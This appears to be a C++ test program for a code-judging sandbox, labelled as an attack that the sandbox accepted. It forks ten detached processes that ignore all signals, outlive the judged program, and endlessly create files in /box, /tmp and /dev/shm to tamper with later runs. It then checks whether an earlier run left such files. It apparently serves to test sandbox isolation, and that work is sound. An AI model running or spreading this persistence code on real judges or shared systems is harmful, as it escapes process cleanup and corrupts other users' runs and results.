// Attack: a process that waits, deaf and far away, for the program to end, to write into the folders of the next run.
// Verdict: accepted
#include <csignal>
#include <cstdio>
#include <fcntl.h>
#include <sched.h>
#include <string>
#include <unistd.h>

int main() {
    bool found = false;
    for (std::string folder : {"/box/", "/tmp/", "/dev/shm/"}) found = found || access((folder + "late").c_str(), F_OK) == 0;
    pid_t parent = getpid();
    int folders[] = {open("/box", O_PATH), open("/tmp", O_PATH), open("/dev/shm", O_PATH)};
    for (int i = 0; i < 10; i++)
        if (fork() == 0) {
            setsid();
            for (int signal = 1; signal <= 64; signal++) ::signal(signal, SIG_IGN);
            while (getppid() == parent) sched_yield();
            for (;;)
                for (int folder : folders) close(openat(folder, "late", O_CREAT | O_WRONLY, 0666));
        }
    int n;
    if (scanf("%d", &n) == 1 && !found) printf("unharmed %d\n", n);
}
